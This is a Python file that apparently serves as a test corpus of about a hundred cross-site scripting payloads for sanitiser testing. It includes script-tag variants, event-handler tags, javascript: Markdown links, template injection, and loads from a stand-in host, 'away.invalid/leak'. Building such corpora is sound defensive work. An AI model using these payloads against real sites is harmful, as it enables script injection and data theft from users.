"""A hundred ways to smuggle a script into a text, each of which would set `window.pwned` or call another host."""

from __future__ import annotations

RUN = "window.pwned=1"
AWAY = "https://away.invalid/leak"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    f"`</script><script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
]
HANDLERS = [
    f'<{tag} {handler}="{RUN}" {rest}>'
    for tag, handler, rest in [
        ("img", "onerror", "src=x"), ("img", "onload", "src=/static/icon.svg"), ("svg", "onload", ""),
        ("body", "onload", ""), ("video", "onerror", "src=x"), ("audio", "onerror", "src=x"),
        ("input", "onfocus", "autofocus"), ("select", "onfocus", "autofocus"), ("textarea", "onfocus", "autofocus"),
        ("details", "ontoggle", "open"), ("marquee", "onstart", ""), ("object", "onerror", "data=x"),
        ("iframe", "onload", "src=about:blank"), ("style", "onload", ""), ("link", "onerror", "rel=stylesheet href=x"),
        ("a", "onfocus", "href=# autofocus"), ("div", "onanimationstart", "style='animation:x'"), ("p", "onclick", ""),
        ("button", "onfocus", "autofocus"), ("form", "onsubmit", ""), ("embed", "onload", "src=x"),
        ("source", "onerror", "src=x"), ("track", "onerror", "src=x"), ("keygen", "onfocus", "autofocus"),
    ]
]  # fmt: skip
AWAYS = [
    f"<img src={AWAY}>", f"<img srcset='{AWAY} 1x'>", f"![x]({AWAY}.png)", f"![x][1]\n\n[1]: {AWAY}.png",
    f"<iframe src={AWAY}></iframe>", f"<object data={AWAY}></object>", f"<embed src={AWAY}>",
    f"<video src={AWAY} autoplay></video>", f"<audio src={AWAY} autoplay></audio>", f"<video poster={AWAY}></video>",
    f"<link rel=stylesheet href={AWAY}>", f"<link rel=prefetch href={AWAY}>", f"<link rel=dns-prefetch href={AWAY}>",
    f"<style>@import '{AWAY}';</style>", f"<div style=\"background:url({AWAY})\">x</div>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<base href={AWAY}>",
    f"<form action={AWAY}><button autofocus>",
    f"<input type=image src={AWAY}>", f"<body background={AWAY}>", f"<table background={AWAY}><tr><td>x</table>",
    f"<svg><image href={AWAY} /></svg>", f"<svg><use href='{AWAY}#x'/></svg>", f"<a href={AWAY} ping={AWAY}>x</a>",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](javascript&colon;{RUN})", f"[x](  javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)", f"[x](vbscript:{RUN})", f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>", f"![x](javascript:{RUN})", f"![x\" onerror=\"{RUN}](x)", f"[x](x \"a\" onclick=\"{RUN}\")",
    f"[x](<javascript:{RUN}>)", f"![\" onerror={RUN} x=\"](y)", f"**<img src=x onerror={RUN}>**",
    f"# <svg onload={RUN}>", f"> <img src=x onerror={RUN}>", f"- <img src=x onerror={RUN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | y |", f"`<img src=x onerror={RUN}>`",
    f"~~~\" onmouseover=\"{RUN}\nx\n~~~", f"``` \"><script>{RUN}</script>\nx\n```", f"[<img src=x onerror={RUN}>](y)",
    f"\\<script>{RUN}</script>", f"<!--><img src=x onerror={RUN}>-->",
]  # fmt: skip
OTHERS = [
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"{{% raw %}}<script>{RUN}</script>",
    f"<x hx-on:load='{RUN}' hx-get={AWAY} hx-trigger=load>", f"<div hx-get={AWAY} hx-trigger=load>x</div>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<math href=javascript:{RUN}>x</math>",
    f"<a href=\"javascript:{RUN}\" autofocus>x</a>",
]  # fmt: skip
PAYLOADS = [*SCRIPTS, *HANDLERS, *AWAYS, *MARKDOWN, *OTHERS]
